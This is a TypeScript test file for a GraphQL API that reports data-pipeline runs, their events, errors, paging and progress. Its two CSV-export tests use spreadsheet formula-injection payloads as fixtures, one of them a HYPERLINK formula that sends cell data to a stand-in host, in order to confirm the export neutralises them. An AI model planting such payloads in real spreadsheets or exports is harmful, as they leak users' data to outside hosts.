import { parse } from 'csv-parse/sync'
import { afterAll, expect, test } from 'vitest'
import { encodeId } from '../../src/schema/global-id.ts'
import { startTestApp } from '../support/app.ts'
import { at } from '../support/moment.ts'
import { call, startRun } from '../support/runs.ts'
import { statementsOf, withoutKeyLookup } from '../support/statements.ts'
import { aRetailer, aSource } from '../support/rows.ts'

// As an API process: its clock would send statements beside those that are counted.
const app = await startTestApp({ env: { FRESHET_ROLE: 'api' } })
afterAll(() => app[Symbol.asyncDispose]())
const { pool } = app
const key = await app.keyWith('OPERATE')

type Page<Node> = { totalCount: number; nodes: Node[]; pageInfo: { hasNextPage: boolean; endCursor: string } }
type Run = { id: string; events: Page<{ number: number }>; errors: Page<{ code: string; line: number }> } & Record<
  string,
  unknown
>

async function ask<Data>(query: string, variables: object = {}): Promise<Data> {
  const { data, errors } = await app.ask<Data>(query, variables, { key })
  expect(errors).toBeUndefined()
  return data!
}
const listed = async (filter: object) =>
  (
    await ask<{ runs: Page<{ id: string }> }>('query ($filter: RunFilter) { runs(filter: $filter) { nodes { id } } }', {
      filter,
    })
  ).runs.nodes.map(({ id }) => id)

test('DESIGN 8: a run shows what all kinds share, and its type says its kind', async () => {
  const sourceId = await aSource(pool, await aRetailer(pool), { name: 'Feed' })
  const { id, jobId } = await startRun(pool, { kind: 'FEED', trigger: 'MANUAL', sourceId })
  await call(pool, 'set_run_stage', id, 1, 'PARSE', at(1))
  await call(pool, 'add_run_progress', id, 1, { rows: 5000 }, at(2))
  await call(pool, 'sample_run_error', id, 1, 'PRICE_MISSING', 'There is no price.', at(2), 7, 'A-1', {
    column: 'price',
  })
  await call(pool, 'fail_run', id, 1, 'BROKEN', 'It broke.', 'Mend it.', at(3.5))
  const { run } = await ask<{ run: Run }>(
    `query ($id: ID!) { run(id: $id) {
      __typename kind status trigger stage counters attempt startedAt updatedAt finishedAt durationMs isCounted errorCode errorMessage errorHint errorCount jobId eventCount
      source { name } errorTotals { code total }
      errors { totalCount nodes { at code message line item details } }
      events { totalCount nodes { number kind stage counters code message run { id } } }
    } }`,
    { id: encodeId('FeedRun', id) },
  )
  expect(run).toEqual({
    __typename: 'FeedRun',
    kind: 'FEED',
    status: 'FAILED',
    trigger: 'MANUAL',
    stage: 'PARSE',
    counters: { rows: 5000 },
    attempt: 1,
    startedAt: at().toISOString(),
    updatedAt: at(3.5).toISOString(),
    finishedAt: at(3.5).toISOString(),
    durationMs: 3500,
    isCounted: true,
    errorCode: 'BROKEN',
    errorMessage: 'It broke.',
    errorHint: 'Mend it.',
    errorCount: 1,
    jobId,
    eventCount: 4,
    source: { name: 'Feed' },
    errorTotals: [{ code: 'PRICE_MISSING', total: 1 }],
    errors: {
      totalCount: 1,
      nodes: [
        {
          at: at(2).toISOString(),
          code: 'PRICE_MISSING',
          message: 'There is no price.',
          line: 7,
          item: 'A-1',
          details: { column: 'price' },
        },
      ],
    },
    events: {
      totalCount: 4,
      nodes: [
        { number: 1, kind: 'STARTED', stage: null, counters: {}, code: null, message: null },
        { number: 2, kind: 'STAGE', stage: 'PARSE', counters: {}, code: null, message: null },
        { number: 3, kind: 'PROGRESS', stage: 'PARSE', counters: { rows: 5000 }, code: null, message: null },
        { number: 4, kind: 'FAILED', stage: 'PARSE', counters: { rows: 5000 }, code: 'BROKEN', message: 'It broke.' },
      ].map((event) => ({ ...event, run: { id: encodeId('FeedRun', id) } })),
    },
  })
})

test.each([
  ['FEED', 'FeedRun'],
  ['SCRAPE', 'ScrapeRun'],
  ['DISCOVERY', 'CrawlRun'],
  ['SWEEP', 'CrawlRun'],
  ['SNAPSHOT', 'CrawlRun'],
  ['VERIFICATION', 'VerificationRun'],
])('a %s run is a %s, also by its id, and nothing else', async (kind, type) => {
  const { id } = await startRun(pool, { kind })
  const node = 'query ($id: ID!) { node(id: $id) { __typename id ... on Run { kind durationMs } } }'
  const globalId = encodeId(type, id)
  expect(await ask(node, { id: globalId })).toEqual({
    node: { __typename: type, id: globalId, kind, durationMs: null },
  })
  expect(await ask('query ($id: ID!) { run(id: $id) { __typename id } }', { id: globalId })).toEqual({
    run: { __typename: type, id: globalId },
  })
  const other = encodeId(type === 'FeedRun' ? 'CrawlRun' : 'FeedRun', id)
  expect(await ask(node, { id: other })).toEqual({ node: null })
  expect(await ask('query ($id: ID!) { run(id: $id) { id } }', { id: other })).toEqual({ run: null })
})

test('runs are listed newest first, a page at a time, by what the filter says', async () => {
  const sourceId = await aSource(pool, await aRetailer(pool))
  const first = await startRun(pool, { kind: 'SNAPSHOT', trigger: 'ROLLBACK', sourceId })
  const second = await startRun(pool, { kind: 'SCRAPE', trigger: 'MANUAL', sourceId })
  await call(pool, 'finish_run', second.id, 1, at(1))
  const [one, two] = [encodeId('CrawlRun', first.id), encodeId('ScrapeRun', second.id)]
  const ofSource = { sourceId: encodeId('Source', sourceId) }
  expect(await listed(ofSource)).toEqual([two, one])
  expect(await listed({ ...ofSource, kind: 'SNAPSHOT' })).toEqual([one])
  expect(await listed({ ...ofSource, status: 'SUCCEEDED' })).toEqual([two])
  expect(await listed({ ...ofSource, status: 'FAILED' })).toEqual([])
  expect(await listed({ ...ofSource, trigger: 'ROLLBACK' })).toEqual([one])
  const paged = `query ($filter: RunFilter, $after: String) { runs(first: 1, filter: $filter, after: $after) { totalCount nodes { id } pageInfo { hasNextPage endCursor } } }`
  const page = await ask<{ runs: Page<{ id: string }> }>(paged, { filter: ofSource })
  expect(page.runs).toMatchObject({ totalCount: 2, nodes: [{ id: two }], pageInfo: { hasNextPage: true } })
  const rest = await ask<{ runs: Page<{ id: string }> }>(paged, {
    filter: ofSource,
    after: page.runs.pageInfo.endCursor,
  })
  expect(rest.runs).toMatchObject({ totalCount: 2, nodes: [{ id: one }], pageInfo: { hasNextPage: false } })
})

test('the events and errors of a run come a page at a time, errors also of one code', async () => {
  const { id } = await startRun(pool)
  for (const stage of ['A', 'B']) await call(pool, 'set_run_stage', id, 1, stage, at())
  for (const [line, code] of [
    [1, 'X'],
    [2, 'Y'],
    [3, 'X'],
  ])
    await call(pool, 'sample_run_error', id, 1, code, 'wrong', at(), line)
  const query = `query ($id: ID!, $events: String, $errors: String) { run(id: $id) {
    events(first: 2, after: $events) { totalCount nodes { number } pageInfo { hasNextPage endCursor } }
    errors(first: 1, after: $errors, code: "X") { totalCount nodes { code line } pageInfo { hasNextPage endCursor } }
  } }`
  const one = await ask<{ run: Run }>(query, { id: encodeId('FeedRun', id) })
  expect(one.run).toMatchObject({
    events: { totalCount: 3, nodes: [{ number: 1 }, { number: 2 }], pageInfo: { hasNextPage: true } },
    errors: { totalCount: 2, nodes: [{ code: 'X', line: 1 }], pageInfo: { hasNextPage: true } },
  })
  const { events, errors } = one.run
  const two = await ask<{ run: Run }>(query, {
    id: encodeId('FeedRun', id),
    events: events.pageInfo.endCursor,
    errors: errors.pageInfo.endCursor,
  })
  expect(two.run).toMatchObject({
    events: { totalCount: 3, nodes: [{ number: 3 }], pageInfo: { hasNextPage: false } },
    errors: { totalCount: 2, nodes: [{ code: 'X', line: 3 }], pageInfo: { hasNextPage: false } },
  })
})

test('S15: of the errors of a run, as CSV, no cell is a formula, and each is read back as it was written', async () => {
  const { id } = await startRun(pool)
  const hostile = ['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2', '@SUM(A1)', '＝1+1', '＠x']
  for (const text of hostile) await call(pool, 'sample_run_error', id, 1, 'X', text, at(), 2, text, { column: text })
  await call(pool, 'sample_run_error', id, 1, 'X', 'so "it" is,\r\nhere', at(), null, 'p-1')
  const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
  const { exportRunErrors } = await ask<{ exportRunErrors: string }>(query, { runId: encodeId('FeedRun', id) })
  const [header, ...rows] = parse(exportRunErrors, { relax_column_count: false })
  expect(header).toEqual(['line', 'code', 'message', 'item', 'details'])
  expect(rows.slice(0, -1).map(([, , message, item]) => [message, item])).toEqual(
    hostile.map((text) => [`'${text}`, `'${text}`]),
  )
  expect(rows.slice(0, -1).map(([, , , , details]) => (JSON.parse(details!) as { column: string }).column)).toEqual(
    hostile,
  )
  expect(rows.at(-1)!.slice(0, 4)).toEqual(['', 'X', 'so "it" is,\r\nhere', 'p-1'])
})

test('S15: no formula stands where a spreadsheet with other separators begins a cell, in a CSV of errors', async () => {
  const { id } = await startRun(pool)
  const hostile = [
    ['so;=1+1', "so;'=1+1"],
    ['so\t＝1; -2', "so\t'＝1; '-2"],
    [' \t=1+1', "' \t'=1+1"],
    ['\r=1', "'\r'=1"],
    ['\n+1', "\n'+1"],
    ['a-b = c;d', 'a-b = c;d'],
  ] as const
  for (const [text] of hostile) await call(pool, 'sample_run_error', id, 1, 'X', text, at(), 2, text)
  const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
  const { exportRunErrors } = await ask<{ exportRunErrors: string }>(query, { runId: encodeId('FeedRun', id) })
  const [, ...rows] = parse(exportRunErrors)
  expect(rows.map(([, , message, item]) => [message, item])).toEqual(hostile.map(([, safe]) => [safe, safe]))
  expect(exportRunErrors).toContain('"so;\'=1+1"') // quoted, so that a semicolon ends no cell where both separate
})

test('more errors than fit in one answer are not exported, and it is said how to read them', async () => {
  const { id } = await startRun(pool)
  await pool.query(
    `insert into freshet.run_errors (run_id, at, code, message)
     select $1, now(), 'X' || n / 100, 'wrong' from generate_series(1, 10001) n`,
    [id],
  )
  const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
  const { errors } = await app.ask(query, { runId: encodeId('FeedRun', id) }, { key })
  expect(errors?.[0]?.extensions).toMatchObject({ code: 'CONFLICT', field: 'runId' })
  await pool.query(
    'delete from freshet.run_errors where id = (select max(id) from freshet.run_errors where run_id = $1)',
    [id],
  )
  const { exportRunErrors } = await ask<{ exportRunErrors: string }>(query, { runId: encodeId('FeedRun', id) })
  expect(exportRunErrors.split('\r\n')).toHaveLength(1 + 10_000 + 1)
})

test('a list of runs with everything in it takes as many statements for twenty runs as for two', async () => {
  const sourceId = await aSource(pool, await aRetailer(pool))
  for (let count = 0; count < 20; count++) {
    const { id } = await startRun(pool, { sourceId })
    await call(pool, 'sample_run_error', id, 1, 'X', 'wrong', at(), 1)
  }
  const query = `query ($first: Int!) { runs(first: $first) { totalCount nodes {
    source { name retailer { name } } errorTotals { total }
    errors(first: 2) { totalCount nodes { line } } events(first: 2) { totalCount nodes { number run { status } } }
  } } }`
  const count = async (first: number) => withoutKeyLookup(await statementsOf(() => ask(query, { first }))).length
  await count(2)
  const two = await count(2)
  expect(await count(20)).toBe(two)
  expect(two).toBeLessThanOrEqual(10)
})

test('issue 5 §7: a run at work, and each of its events, tells bytes, rows, rates and what is left of the stage', async () => {
  const { id } = await startRun(pool)
  await call(pool, 'set_run_stage', id, 1, 'DOWNLOAD', at(10))
  await call(pool, 'add_run_progress', id, 1, { downloadBytes: 250, downloadTotal: 1000 }, at(15))
  const fields = 'bytes totalBytes bytesPerSecond rows rowsPerSecond percent secondsLeft'
  const document = `query ($id: ID!) { run(id: $id) { pace { ${fields} } events { nodes { pace { ${fields} } } } } }`
  const variables = { id: encodeId('FeedRun', id) }
  type Paced = { run: { pace: object | null; events: { nodes: { pace: object | null }[] } } }
  const download = { bytes: 250, totalBytes: 1000, bytesPerSecond: 50, percent: 25, secondsLeft: 15 }
  const first = (await ask<Paced>(document, variables)).run
  expect(first.pace).toEqual({ ...download, rows: null, rowsPerSecond: null })
  expect(first.events.nodes.map(({ pace }) => pace)).toEqual([null, null, first.pace])

  await call(pool, 'set_run_stage', id, 1, 'PARSE', at(20))
  expect((await ask<Paced>(document, variables)).run.pace).toBeNull()
  const parsed = { downloadBytes: 750, bytesParsed: 500, rowsRead: 40 }
  await call(pool, 'add_run_progress', id, 1, parsed, at(22))
  expect((await ask<Paced>(document, variables)).run.pace).toEqual({
    bytes: 500,
    totalBytes: 1000,
    bytesPerSecond: 250,
    rows: 40,
    rowsPerSecond: 20,
    percent: 50,
    secondsLeft: 2,
  })
  await call(pool, 'finish_run', id, 1, at(23))
  expect((await ask<Paced>(document, variables)).run.pace).toBeNull()
})
